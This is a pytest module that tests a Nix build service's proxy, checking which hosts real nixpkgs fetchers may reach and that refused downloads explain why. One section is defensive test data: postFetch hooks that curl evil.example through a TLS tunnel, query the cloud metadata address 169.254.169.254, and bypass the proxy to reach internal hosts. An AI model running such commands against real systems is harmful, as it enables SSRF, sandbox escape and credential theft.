"""The fetchers of a real nixpkgs ($SPOOLD_TEST_REAL_NIXPKGS), through the proxy, from hosts that the test stands for.

All are evaluated once, in one shell; then each is downloaded alone, as for a build. What they run (curl, git, tar) are
programs of the miniature, from a cache of stand-ins. The hosts are real names, see :mod:`tests.nix.internet`.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import subprocess
import tarfile
import time
import zipfile
from collections.abc import Iterable, Iterator, Mapping
from pathlib import Path
from threading import Event
from typing import NamedTuple
from urllib.parse import urlsplit

import msgspec
import pytest

from spoold.config import NixSettings, Settings
from spoold.model.errors import ClientError
from spoold.model.job import BuildLimits
from spoold.nix import policy, realise
from spoold.nix.build import NixBuilder
from spoold.nix.realise import Realisation
from tests import engines
from tests.engines import REPOSITORY
from tests.nix import cache, internet, room
from tests.nix.internet import Internet
from tests.nix.standins import FETCHERS, Maker

REAL = os.environ.get("SPOOLD_TEST_REAL_NIXPKGS", "")
pytestmark = [
    pytest.mark.nix,
    pytest.mark.timeout(3600),
    pytest.mark.skipif(not REAL, reason="$SPOOLD_TEST_REAL_NIXPKGS names no nixpkgs"),
]

MAKE = REPOSITORY / "contrib/nixpkgs-debian/make"
PATIENT = BuildLimits(evaluation_time=1200, time=3000, silence=3000, fetch_time=600, fetch_bytes=300_000)
NOW = str(time.time_ns()).encode()  # stores that are kept have nothing of it yet
FILES = {"README": NOW, "src/main.c": b"int main(void) { return 42; }\n"}
SCRIPT = b"#!/bin/sh\necho " + NOW + b"\n"
CLEAN = b"--- a/f\n+++ b/f\n@@ -1 +1 @@\n-old\n+" + NOW + b"\n"
PATCH = b"What a person says of it\n" + CLEAN


def tarball(top: str, files: Mapping[str, bytes] = FILES) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as tar:
        for name, content in files.items():
            entry = tarfile.TarInfo(f"{top}/{name}")
            entry.size, entry.mode = len(content), 0o644
            tar.addfile(entry, io.BytesIO(content))
    return packed.getvalue()


def zipped(files: Mapping[str, bytes] = FILES) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, content in files.items():
            archive.writestr(f"top/{name}", content)
    return packed.getvalue()


def flat(content: bytes) -> str:
    return "sha256-" + base64.b64encode(hashlib.sha256(content).digest()).decode()


def tree(directory: Path, files: Mapping[str, bytes] = FILES, mode: int = 0o644) -> str:
    """Return the hash of a directory with these files, or of the one file without a name."""
    for name, content in files.items():
        (file := directory / "tree" / name).parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content)
        file.chmod(mode)
    place = directory / "tree" / next(iter(files)) if len(files) == 1 else directory / "tree"
    argv = ["nix-hash", "--type", "sha256", "--base32", str(place)]
    found = subprocess.run(argv, check=True, capture_output=True, text=True).stdout.strip()
    subprocess.run(["rm", "-r", directory / "tree"], check=True)
    return f"sha256:{found}"


class Case(NamedTuple):
    """A fetcher, the hosts that are listed for it, and the end of what is asked for.

    ``says`` is what the client reads where it fails, "" where it works. ``@NAME@`` in the expression is a hash. MIRRORS
    in the others are the hosts from which this nixpkgs fetches packages of Python.
    """

    expression: str
    hosts: str
    asked: str = ""
    says: str = ""


URL = 'fetchurl { url = "%s"; hash = "%s"; }'
GITHUB = 'fetchFromGitHub { owner = "o"; repo = "r"; rev = "v1"; %s sha256 = "%s"; }'
GIT = 'fetchgit { url = "https://git.example/o/%s.git"; rev = "@rev@"; sha256 = "%s"; }'
PYPI = 'fetchPypi { pname = "six"; version = "%s"; hash = "%s"; }'
HOOK = 'fetchurl { url = "https://a.example/a"; name = "%s"; hash = "@gone@"; postFetch = "%s"; }'
MIRRORS = "@mirrors@"
UNLISTED = "would be downloaded from %s, which `[nix] fetch` does not allow"
ELSEWHERE = "would be downloaded from %s, by a redirect or of its own accord, which `[nix] fetch` does not allow"
CASES = {
    "fetchurl": Case(URL % ("https://a.example/a", "@text@"), "a.example", "a.example/a"),
    "fetchurl: http": Case(URL % ("http://a.example/b", "@b@"), "a.example", "a.example/b"),
    "fetchurl: a mirror": Case(URL % ("mirror://gnu/hello/c", "@c@"), "ftp.nluug.nl", "ftp.nluug.nl/pub/gnu/hello/c"),
    "fetchurl: several": Case(
        'fetchurl { urls = [ "https://no.example/d" "https://a.example/d" ]; hash = "@d@"; }',
        "a.example",
        "a.example/d",
    ),
    "fetchurl: postFetch": Case(
        'fetchurl { url = "https://a.example/post"; postFetch = "echo more >> $out"; hash = "@post@"; }', "a.example"
    ),
    "fetchurl: executable": Case(
        'fetchurl { url = "https://a.example/script"; executable = true; sha256 = "@script@"; }', "a.example"
    ),
    "fetchurl: recursive": Case(
        'fetchurl { url = "https://a.example/rec"; recursiveHash = true; downloadToTemp = true; sha256 = "@rec@";'
        ' postFetch = "mkdir $out; cp $downloadedFile $out/file; echo >$out/b"; }',
        "a.example",
    ),
    "fetchurl: its own": Case(
        'import <nix/fetchurl.nix> { url = "https://a.example/own"; hash = "@own@"; }', "a.example"
    ),
    "fetchFromGitHub": Case(
        GITHUB % ("", "@files@"), "github.com codeload.github.com", "codeload.github.com/o/r/tar.gz/v1"
    ),
    "fetchzip: zip": Case('fetchzip { url = "https://a.example/z.zip"; sha256 = "@zipped@"; }', "a.example"),
    "fetchpatch": Case(
        'fetchpatch { url = "https://github.com/o/r/commit/1.patch"; hash = "@patch@"; }', "github.com", "1.patch"
    ),
    "fetchPypi": Case(
        PYPI % ("1", "@six@"),
        f"{MIRRORS} files.example",
        "files.example/six-1.tar.gz",
    ),
    "fetchCrate": Case(
        'fetchCrate { pname = "c"; version = "1.0.0"; sha256 = "@crate@"; registryDl = "https://a.example/crates"; }',
        "a.example files.example",
        "files.example/c.crate",
    ),
    "fetchgit": Case(GIT % ("r", "@git@"), "git.example", "git.example/o/r.git/git-upload-pack"),
    "fetchFromGitLab": Case(
        'fetchFromGitLab { owner = "o"; repo = "r"; rev = "v1"; sha256 = "@lab@"; }', "gitlab.com", "archive.tar.gz"
    ),
    "fetchFromGitLab: git": Case(
        'fetchFromGitLab { owner = "o"; repo = "r"; rev = "@rev@"; name = "lab"; sha256 = "@git@";'
        " forceFetchGit = true; }",
        "gitlab.com",
        "gitlab.com/o/r.git/git-upload-pack",
    ),
    # -- what is refused, or fails
    "a host": Case(URL % ("https://no.example/1", "@gone@"), "a.example", says="no.example"),
    "a mirror": Case(URL % ("mirror://gnu/hello/2", "@gone@"), "a.example", says="which `[nix] fetch` does not allow"),
    "a redirect": Case(GITHUB % ('name = "s3";', "@gone@"), "github.com", says=ELSEWHERE % "codeload.github.com"),
    "PyPI": Case(PYPI % ("1", "@gone@"), "a.example", says=f"{MIRRORS} or tarballs"),
    "git": Case(GIT % ("r", "@gone@"), "a.example", says=UNLISTED % "git.example"),
    "404": Case(
        URL % ("https://a.example/4", "@gone@"),
        "a.example",
        says="a.example was reached, and the lines above say why that was not enough. It may come from tarballs",
    ),
    "404 of git": Case(
        GIT % ("none", "@gone@"), "git.example", says="repository 'https://git.example/o/none.git/' not found"
    ),
    "a lying hash": Case(URL % ("https://a.example/a", "@lie@"), "a.example", says="hash mismatch in fixed-output"),
    # -- attacks by what a fetcher lets people add
    "another host by TLS": Case(
        HOOK
        % ("attack-1", "curl -sSk --connect-to evil.example:443:a.example:443 https://evil.example/x -o $out; exit 1"),
        "a.example",
        "a.example/a",
        "TLS asks for 'evil.example' in a tunnel to a.example",
    ),
    "another host": Case(
        HOOK % ("attack-2", "curl -sS http://169.254.169.254/latest -o $out; exit 1"),
        "a.example",
        says=ELSEWHERE % "169.254.169.254",
    ),
    "past the proxy": Case(
        HOOK
        % (
            "attack-3",
            "curl -sS --noproxy '*' http://secret.evil.example/ -o $out || curl -sS --noproxy '*' http://10.0.0.1/",
        ),
        "a.example",
        says="Couldn't connect to server",
    ),
    "too much": Case(
        HOOK % ("attack-4", "curl -sSk https://a.example/large >/dev/null"),
        "a.example",
        says="took more than 300000 bytes",
    ),
    "git over ssh": Case(
        'fetchgit { url = "git@github.com:o/r.git"; rev = "@rev@"; sha256 = "@gone@"; name = "ssh"; }',
        "github.com",
        says="asked for no download",
    ),
}


def put(net: Internet, directory: Path, mirrors: Iterable[str]) -> dict[str, str]:
    """Have hosts offer what the cases ask for; return the hashes by name. ``mirrors`` are the URLs of Python's."""
    hashes = {"gone": flat(NOW + b"gone"), "lie": flat(NOW + b"lie")}
    for name in ("b", "d", "own"):
        net.files[f"a.example/{name}"] = NOW + name.encode()
        hashes[name] = flat(NOW + name.encode())
    net.files["a.example/a"] = net.files["ftp.nluug.nl/pub/gnu/hello/c"] = net.files["a.example/rec"] = NOW
    net.files["a.example/post"] = NOW
    net.files["a.example/large"] = bytes(1_000_000)
    hashes |= {"text": flat(NOW), "c": flat(NOW), "post": flat(NOW + b"more\n")}
    net.files["a.example/script"] = SCRIPT
    hashes["script"] = tree(directory, {"script": SCRIPT}, 0o755)
    hashes["rec"] = tree(directory, {"file": NOW, "b": b"\n"})
    net.files["github.com/o/r/archive/v1.tar.gz"] = "https://codeload.github.com/o/r/tar.gz/v1"
    net.files["codeload.github.com/o/r/tar.gz/v1"] = tarball("r-1", FILES)
    net.files["a.example/z.zip"] = zipped({name: b"z" + text for name, text in FILES.items()})
    net.files["gitlab.com/api/v4/projects/o%2Fr/repository/archive.tar.gz"] = tarball("r-v1", FILES | {"lab": b"lab"})
    hashes["files"] = tree(directory, FILES)
    hashes["zipped"] = tree(directory, {name: b"z" + text for name, text in FILES.items()})
    hashes["lab"] = tree(directory, FILES | {"lab": b"lab"})
    net.files["github.com/o/r/commit/1.patch"] = PATCH
    hashes["patch"] = flat(CLEAN)
    net.files["files.example/six-1.tar.gz"] = six = tarball("six-1", FILES)
    for url in mirrors:
        net.files[f"{url.partition('://')[2]}s/six/six-1.tar.gz"] = "https://files.example/six-1.tar.gz"
    hashes["six"] = flat(six)
    net.files["a.example/crates/c/1.0.0/download"] = "https://files.example/c.crate"
    net.files["files.example/c.crate"] = tarball("c-1.0.0", {"Cargo.toml": NOW, "lib.rs": b""})
    hashes["crate"] = tree(directory, {"Cargo.toml": NOW, "lib.rs": b""})
    return hashes | repositories(net, directory)


def repositories(net: Internet, directory: Path) -> dict[str, str]:
    work = directory / "work"
    work.mkdir()
    for name in ("one", "two"):
        (work / name).write_bytes(NOW + name.encode())
    for words in (("init",), ("add", "."), ("commit", "-m", "first")):
        git(work, *words)
    for host in ("git.example", "gitlab.com"):
        (net.repositories / host).mkdir(parents=True)
        git(work, "clone", "--bare", str(work), str(net.repositories / host / "o/r"))
    return {
        "rev": git(work, "rev-parse", "HEAD").strip(),
        "git": tree(directory, {name: NOW + name.encode() for name in ("one", "two")}),
    }


def git(directory: Path, *words: str) -> str:
    command = ["git", "-c", "user.name=n", "-c", "user.email=n@a.example", "-c", "init.defaultBranch=main", *words]
    return subprocess.run(command, cwd=directory, check=True, capture_output=True, text=True).stdout


class World(NamedTuple):
    """A builder whose evaluation is done, what makes another one that allows hosts, and the derivations by case."""

    net: Internet
    settings: Settings
    builder: NixBuilder
    derivations: dict[str, str]
    mirrors: list[str]  # hosts

    def hosts(self, case: Case) -> list[str]:
        return case.hosts.replace(MIRRORS, " ".join(self.mirrors)).split()

    def says(self, case: Case) -> str:
        return case.says.replace(MIRRORS, " or ".join(sorted(self.mirrors)))

    def download(self, name: str) -> Realisation:
        nix = msgspec.structs.replace(self.settings.nix, fetch=self.hosts(CASES[name]))
        self.builder.apply_settings(msgspec.structs.replace(self.settings, nix=nix))
        self.net.asked.clear()
        return realise.realise(self.builder.store, self.derivations[name], PATIENT, Event(), build=name)


@pytest.fixture(scope="module")
def world(nix_settings: Settings, nixpkgs_debian: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    directory = tmp_path_factory.mktemp("fetchers")
    kept = os.environ.get("SPOOLD_TEST_STATE")
    state, tools = directory / "state", directory / "nixpkgs"
    packages = ["--cache", str(nixpkgs_debian.parent / "debian-packages"), "--with", "git,unzip,patchutils"]
    made = subprocess.run([MAKE, *packages, tools], capture_output=True, text=True, check=False)
    if made.returncode:
        engines.unavailable(f"no miniature with git could be made: {made.stderr}")
    with internet.serving(directory) as net, pytest.MonkeyPatch.context() as patch:
        patch.setenv("http_proxy", net.url)
        patch.setenv("https_proxy", net.url)
        patch.setenv("no_proxy", "127.0.0.1")
        keys = cache.make_keys(directory)
        nix = NixSettings(state=kept or str(state), system=nix_settings.nix.system, certificates=str(net.authority))
        pins = {"default": str(tools), "real": REAL}
        builder_settings = msgspec.structs.replace(nix_settings.builder, limits=PATIENT)
        settings = msgspec.structs.replace(nix_settings, nix=nix, nixpkgs=pins, builder=builder_settings)
        builder = NixBuilder(settings)
        builder.prepare()
        (directory / "cache").mkdir()
        with cache.serving(directory / "cache") as served:
            maker = Maker(builder, directory / "cache", keys / "secret", stands_in=FETCHERS)
            mirrors = python_mirrors(builder)
            hashes = put(net, directory, mirrors)
            derivations = evaluated(builder, hashes)
            maker.serve(derivations.values(), "real")
            nix = msgspec.structs.replace(
                nix, substituters=[served.url], trusted_public_keys=[(keys / "public").read_text()]
            )
            hosts = [urlsplit(url).hostname or "" for url in mirrors]
            yield World(net, msgspec.structs.replace(settings, nix=nix), builder, derivations, hosts)
    if not kept:
        engines.remove_store(state)


def python_mirrors(builder: NixBuilder) -> list[str]:
    """Return the URLs below which this nixpkgs looks for packages of Python, as it has them itself."""
    pin = builder.store.on_disk(room.runtime_of(builder).nixpkgs["real"])
    asked = f"(import {pin}/pkgs/build-support/fetchurl/mirrors.nix).pypi"
    argv = ["nix-instantiate", "--eval", "--strict", "--json", "--store", "dummy://", "-E", asked]
    found: list[str] = json.loads(subprocess.run(argv, check=True, capture_output=True, text=True).stdout)
    return found


def evaluated(builder: NixBuilder, hashes: Mapping[str, str]) -> dict[str, str]:
    """Evaluate all cases in one shell of the real nixpkgs; return their derivations."""
    attributes = ""
    for number, case in enumerate(CASES.values()):
        expression = case.expression
        for name, value in hashes.items():
            expression = expression.replace(f"@{name}@", value)
        attributes += f"s{number} = {expression};\n"
    text = f'with import <nixpkgs> {{ }}; stdenv.mkDerivation {{ name = "s"; {attributes} }}'
    assert builder._evaluator is not None
    pin = room.runtime_of(builder).nixpkgs["real"]
    evaluation = builder._evaluator.evaluate(text, pin, PATIENT, Event())
    assert evaluation.derivation, evaluation.finished.stderr.data.decode()
    shell = policy.read(builder.store, evaluation.derivation)
    made_by = {
        output.path: path for path, _ in shell.derivations for output in policy.read(builder.store, path).outputs
    }
    values = dict(shell.environment)
    return {name: made_by[values[f"s{number}"]] for number, name in enumerate(CASES)}


@pytest.mark.parametrize("name", [name for name, case in CASES.items() if not case.says])
def test_a_fetcher_downloads(world: World, name: str) -> None:
    case = CASES[name]
    done = world.download(name)
    said = done.finished.stderr.data.decode() if done.finished else ""
    assert done.path, f"{done.note}\n{said}"
    assert any(each.endswith(case.asked) for each in world.net.asked), world.net.asked


@pytest.mark.parametrize("name", [name for name, case in CASES.items() if case.says])
def test_what_fails_says_why(world: World, name: str) -> None:
    case = CASES[name]
    try:
        done = world.download(name)
        said = f"{done.finished.stderr.data.decode() if done.finished else ''}\n{done.note}"
        assert not done.path
    except ClientError as error:
        said = str(error)
    assert world.says(case) in said
    listed = world.hosts(case)
    assert all(each.split()[1].partition("/")[0] in listed for each in world.net.asked), world.net.asked
